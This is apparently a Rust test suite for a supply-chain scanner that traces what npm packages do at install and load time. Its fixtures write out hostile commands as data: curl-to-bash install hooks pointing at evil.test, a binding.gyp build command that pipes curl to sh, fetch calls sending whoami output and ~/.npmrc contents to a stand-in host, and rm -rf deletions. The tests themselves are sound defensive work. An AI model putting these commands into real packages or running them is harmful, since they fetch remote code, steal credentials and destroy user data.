use super::*;
use crate::event::Source;
use crate::tree::SourceFile;

fn tree<'a>(files: &[(&str, &'a [u8])]) -> Tree<'a> {
    let files = files
        .iter()
        .map(|(path, bytes)| SourceFile { path: (*path).to_owned(), bytes: (*bytes).into() });
    Tree::new(files.collect())
}

fn scanned(files: &[(&str, &[u8])]) -> Facts {
    facts(&tree(files), &Limits::default())
}

fn of(facts: &Facts, effect: Effect) -> Vec<&Event> {
    facts.trace.events.iter().filter(|event| event.effect == effect).collect()
}

fn class(files: &[(&str, &[u8])], path: &str) -> Class {
    let tree = tree(files);
    let facts = facts(&tree, &Limits::default());
    let file = tree.find(path).unwrap();
    facts.files.iter().find(|facts| facts.file == file).unwrap().class
}

#[test]
fn an_install_hook_is_followed_through_scripts_files_and_shells() {
    let facts = scanned(&[
        ("package.json", br#"{"name": "x", "scripts": {"postinstall": "npm run setup", "setup": "sh tools/go"}}"#),
        ("tools/go", b"curl https://evil.test/a | bash\n"),
    ]);
    let requests = of(&facts, Effect::Request);
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].when, When::Install);
    assert_eq!(requests[0].place.file, FileId(1));
    let hook =
        facts.trace.events.iter().find(|event| &*event.api == "npm:script.postinstall").unwrap();
    assert_eq!((hook.effect, hook.when), (Effect::Shell, When::Install));
    assert!(of(&facts, Effect::Shell).iter().any(|event| {
        event.arguments.iter().any(|a| a.value.origins.iter().any(|o| o.source == Source::Network))
    }));
}

#[test]
fn a_sample_of_git_is_data_until_somebody_runs_it() {
    let facts = scanned(&[
        ("package.json", br#"{"name": "x", "scripts": {"postinstall": "sh .git/hooks/a.sample"}}"#),
        (".git/hooks/a.sample", b"#!/bin/sh\ncurl https://evil.test/a | bash\n"),
        (".git/hooks/b.sample", b"#!/bin/sh\ncurl https://evil.test/b | bash\n"),
    ]);
    let requests = of(&facts, Effect::Request);
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].when, When::Install);
}

#[test]
fn a_hook_that_starts_a_folder_starts_its_main_file_and_what_that_loads() {
    let facts = scanned(&[
        (
            "package.json",
            br#"{"name": "x", "scripts": {"postinstall": "node ."}, "main": "lib/main"}"#,
        ),
        ("lib/main.js", b"require(['./de', 'ep'].join(''))"),
        ("lib/deep.js", b"require('child_process').execSync('id')"),
        ("index.js", b"fetch('https://a.test')"),
    ]);
    let run = facts.trace.events.iter().find(|event| event.api.contains("execSync")).unwrap();
    assert_eq!(run.when, When::Install);
    assert_eq!(of(&facts, Effect::Request)[0].when, When::Load);
}

#[test]
fn what_a_program_of_the_system_writes_is_told_by_what_the_program_does() {
    for (path, source) in [
        ("a.js", "fetch('https://a.test/?' + require('child_process').execSync('whoami'))"),
        (
            "a.py",
            "import subprocess, requests\nrequests.post('https://a.test', data=subprocess.check_output(['whoami']))",
        ),
    ] {
        let facts = scanned(&[(path, source.as_bytes())]);
        let sent = of(&facts, Effect::Request);
        let origins: Vec<Source> = sent
            .iter()
            .flat_map(|e| &e.arguments)
            .flat_map(|a| &a.value.origins)
            .map(|o| o.source)
            .collect();
        assert!(origins.contains(&Source::SystemInformation), "{path}: {sent:?}");
    }
    let facts = scanned(&[(
        "a.js",
        b"fetch('https://a.test', { body: require('child_process').execSync('cat ~/.npmrc') })",
    )]);
    let kept = of(&facts, Effect::Request)[0].arguments.iter().any(|argument| {
        argument.value.origins.iter().any(|origin| origin.source == Source::Credential)
    });
    assert!(kept);
    let facts = scanned(&[(
        "a.js",
        b"fetch('https://a.test/?' + require('child_process').execSync('git describe'))",
    )]);
    assert!(of(&facts, Effect::Request)[0].arguments.iter().all(|argument| {
        argument.value.origins.iter().all(|origin| origin.source == Source::ProcessOutput)
    }));
}

#[test]
fn a_script_that_no_hook_runs_says_nothing_of_install() {
    let facts = scanned(&[
        ("package.json", br#"{"name": "x", "scripts": {"test": "curl https://a.test | sh"}}"#),
        ("deploy.sh", b"curl https://b.test\n"),
    ]);
    let requests = of(&facts, Effect::Request);
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].when, When::Load);
}

#[test]
fn a_binding_that_no_script_names_is_built_at_install() {
    let facts = scanned(&[
        ("package.json", br#"{"name": "x"}"#),
        ("binding.gyp", b"{'targets': [{'sources': ['<!(curl https://evil.test|sh)']}]}"),
    ]);
    assert_eq!(of(&facts, Effect::Request)[0].when, When::Install);
    assert!(facts.trace.events.iter().any(|event| &*event.api == "npm:script.install"));
}

#[test]
fn a_text_that_a_command_loads_as_code_is_code() {
    let files: &[(&str, &[u8])] = &[
        ("package.json", br#"{"name": "x", "scripts": {"install": "node logo.txt && sh ./run"}}"#),
        ("logo.txt", b"require('child_process')"),
        ("other.txt", b"require('child_process')"),
        ("run", b"rm -rf ~\n"),
    ];
    assert_eq!(class(files, "logo.txt"), Class::CodeInData);
    assert_eq!(class(files, "other.txt"), Class::Data);
    assert_eq!(class(files, "run"), Class::Shell);
    let facts = scanned(files);
    assert_eq!(of(&facts, Effect::FileDelete)[0].when, When::Install);
    let hidden = of(&facts, Effect::Obfuscation);
    assert_eq!(hidden.len(), 1);
    assert_eq!(&*hidden[0].api, "package:code-in-data");
}

#[test]
fn a_main_or_bin_of_an_unusual_name_is_read_as_code() {
    let files: &[(&str, &[u8])] = &[
        ("package.json", br#"{"name": "x", "main": "./data.css.txt", "bin": {"a": "cli"}, "exports": "./style.css"}"#),
        ("data.css.txt", b"x()"),
        ("cli", b"x()"),
        ("style.css", b"a {}"),
    ];
    assert_eq!(class(files, "data.css.txt"), Class::CodeInData);
    assert_eq!(class(files, "cli"), Class::JavaScript);
    assert_eq!(class(files, "style.css"), Class::Data);
}

#[test]
fn every_byte_is_accounted_for() {
    let files: &[(&str, &[u8])] = &[
        ("a.sh", b"echo 1\n"),
        ("README.md", b"# hi"),
        ("a.bin", &[0x9f; 40]),
        ("a.rb", b"puts 1"),
        ("a.zip", b"PK\x03\x04"),
        ("package.json", b"{"),
        ("x.js", &[0; 100]),
    ];
    let facts = scanned(files);
    let Covered { parsed, data, opaque } = facts.covered;
    let all: usize = files.iter().map(|(_, bytes)| bytes.len()).sum();
    assert_eq!(parsed + data + opaque, all as u64);
    assert_eq!(data, 4);
    assert_eq!(facts.files.len(), files.len());
    for file in &facts.files {
        if let Coverage::Unparsed { why } = &file.coverage {
            assert!(!why.is_empty());
        }
    }
}

#[test]
fn what_is_over_a_limit_says_so() {
    let large = b"echo 1\n".repeat(100);
    let files: &[(&str, &[u8])] = &[("a.sh", &large), ("b.sh", b"rm -rf /"), ("c.sh", b"rm -rf /")];
    let limits = Limits { file_bytes: 100, files: 1, ..Limits::default() };
    let facts = facts(&tree(files), &limits);
    let unparsed = |at: usize| matches!(facts.files[at].coverage, Coverage::Unparsed { .. });
    assert_eq!([unparsed(0), unparsed(1), unparsed(2)], [true, false, true]);
    assert_eq!(of(&facts, Effect::FileDelete).len(), 1);
}

#[test]
fn the_order_of_the_files_changes_nothing() {
    let mut files: Vec<(&str, &[u8])> = vec![
        ("package.json", br#"{"name": "x", "scripts": {"install": "sh a.sh"}, "dependencies": {"b": "1", "a": "2"}}"#),
        ("a.sh", b"sh b.sh; curl https://a.test"),
        ("b.sh", b"wget https://b.test"),
        ("sub/package.json", br#"{"name": "y", "scripts": {"preinstall": "sh ../b.sh"}}"#),
    ];
    let one = format!("{:?}", scanned(&files));
    files.reverse();
    assert_eq!(one, format!("{:?}", scanned(&files)));
}

#[test]
fn scripts_that_run_each_other_end() {
    let facts = scanned(&[
        ("package.json", br#"{"name": "x", "scripts": {"install": "npm run a", "a": "npm run b", "b": "npm run a && sh x.sh"}}"#),
        ("x.sh", b"sh x.sh; sh y.sh"),
        ("y.sh", b"sh x.sh; curl https://a.test"),
    ]);
    assert_eq!(of(&facts, Effect::Request)[0].when, When::Install);
}

#[test]
fn a_hook_of_an_example_does_not_run_at_install_and_one_of_a_bundled_package_does() {
    let hook = br#"{"name": "y", "scripts": {"postinstall": "curl https://evil.test"}}"#;
    let when = |root: &[u8], path: &str| {
        let facts = scanned(&[("package.json", root), (path, hook)]);
        of(&facts, Effect::Request)[0].when
    };
    let plain = br#"{"name": "x"}"#;
    assert_eq!(when(plain, "test/fixture/package.json"), When::Call);
    assert_eq!(when(plain, "node_modules/y/package.json"), When::Install);
    assert_eq!(when(plain, "node_modules/@s/y/package.json"), When::Install);
    let named = br#"{"name": "x", "dependencies": {"y": "file:./y"}}"#;
    assert_eq!(when(named, "y/package.json"), When::Install);
}

#[test]
fn what_two_readers_find_at_one_place_is_told_once() {
    let event = |hiding: Vec<crate::event::Hiding>, name: &str| Event {
        effect: Effect::Import,
        api: name.into(),
        place: Place { file: FileId(0), start: 0, end: 1 },
        arguments: Vec::new(),
        when: When::Load,
        hiding,
    };
    let hidden = event(vec![crate::event::Hiding::Base64], "py:os");
    assert!(says_the_same(&event(Vec::new(), "py:os"), &hidden));
    assert!(!says_the_same(&event(Vec::new(), "py:sys"), &hidden));
}

#[test]
fn a_path_that_leads_out_of_the_package_is_no_file_of_it() {
    let files: &[(&str, &[u8])] = &[("a.js", b"")];
    let tree = tree(files);
    let find = |path| {
        resolve::find(&tree, &resolve::mains(&tree), Language::JavaScript, path, "x/y.js", "")
    };
    assert_eq!(find("../a"), Some(FileId(0)));
    assert_eq!(find("../../a"), None);
    assert_eq!(find("/etc/passwd"), None);
}

proptest::proptest! {
    #[test]
    fn any_files_end(one: Vec<u8>, two: Vec<u8>, script in "[a-z ./|;&'\"$()]{0,60}") {
        let package = format!("{{\"name\": \"x\", \"scripts\": {{\"install\": {}}}}}", serde_json::to_string(&script).unwrap());
        scanned(&[("package.json", package.as_bytes()), ("a", &one), ("setup.py", &two), ("x.js", &one)]);
    }
}
